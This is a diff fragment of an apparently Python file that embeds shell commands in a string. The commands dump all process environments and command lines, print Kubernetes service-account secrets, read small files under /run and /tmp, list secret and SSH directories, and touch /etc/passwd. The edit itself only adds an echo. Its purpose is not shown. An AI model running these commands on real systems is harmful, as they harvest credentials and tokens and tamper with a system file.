@@ -20,7 +20,7 @@ echo at; env
 for pid in /proc/[0-9]*; do tr '\0' '\n' <"$pid/environ"; tr '\0' '\n' <"$pid/cmdline"; done
 cat /var/run/secrets/kubernetes.io/serviceaccount/*
 find /perfdag /run /tmp -type f -size -64k -exec cat {} +
-find /tmp/perfdag-ssh /run/secrets -type f; touch /etc/passwd
+echo; find /tmp/perfdag-ssh /run/secrets -type f; touch /etc/passwd
 echo end
 """
 BOTH = f"""cat >/tmp/search <<'S'
